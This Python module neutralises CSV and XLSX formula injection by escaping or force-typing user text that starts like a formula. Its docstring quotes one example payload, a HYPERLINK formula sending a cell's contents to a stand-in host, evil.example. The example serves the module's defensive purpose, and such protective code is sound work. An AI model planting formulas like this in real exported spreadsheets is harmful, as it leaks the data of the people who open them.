"""User text in spreadsheets is data, never a formula.

A title such as `=HYPERLINK("http://evil.example/?x="&A1,"click me")`, or a
phone number such as `+855 23 123 456`, is read by Excel and LibreOffice as a
formula when a cell starts with one of these characters (CSV injection,
OWASP). Every CSV and XLSX the project writes passes its text through here.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def starts_like_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def inert_text(value):
    """For CSV: text that would start a formula gets a leading apostrophe, which spreadsheets hide."""
    return "'" + value if starts_like_formula(value) else value


def xlsx_cell(cell, value) -> None:
    """Write `value` into an openpyxl cell; text that starts like a formula stays text."""
    import datetime as dt

    from openpyxl.cell.cell import TYPE_STRING

    if isinstance(value, dt.datetime) and value.tzinfo is not None:
        value = value.astimezone(dt.UTC).replace(tzinfo=None)
    cell.value = value
    if starts_like_formula(value):
        cell.data_type = TYPE_STRING


def csv_bytes(header: list, rows) -> bytes:
    """A CSV file (UTF-8 with a byte order mark, so Excel reads accents and Arabic), every text cell inert."""
    import csv
    import io

    output = io.StringIO()
    writer = csv.writer(output)
    writer.writerow([inert_text(str(value)) for value in header])
    for row in rows:
        writer.writerow(["" if value is None else inert_text(value) for value in row])
    return ("\ufeff" + output.getvalue()).encode("utf-8")


def xlsx_bytes(header: list, rows, *, title: str = "Sheet", right_to_left: bool = False) -> bytes:
    """A one-sheet XLSX: a bold header row frozen at the top, right to left for Arabic, every text
    cell inert (a formula-looking title is written as text)."""
    import io

    from openpyxl import Workbook
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    book = Workbook()
    sheet = book.active
    sheet.title = "".join(" " if ch in "[]:*?/\\" else ch for ch in str(title)).strip("'")[:31] or "Sheet"
    sheet.sheet_view.rightToLeft = right_to_left
    widths = [len(str(label)) for label in header]
    for position, label in enumerate(header, start=1):
        cell = sheet.cell(row=1, column=position)
        xlsx_cell(cell, str(label))
        cell.font = Font(bold=True)
    for number, row in enumerate(rows, start=2):
        for position, value in enumerate(row, start=1):
            xlsx_cell(sheet.cell(row=number, column=position), value)
            if position <= len(widths):
                widths[position - 1] = max(widths[position - 1], min(len(str(value or "")), 60))
    for position, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(position)].width = width + 2
    sheet.freeze_panes = "A2"
    output = io.BytesIO()
    book.save(output)
    return output.getvalue()
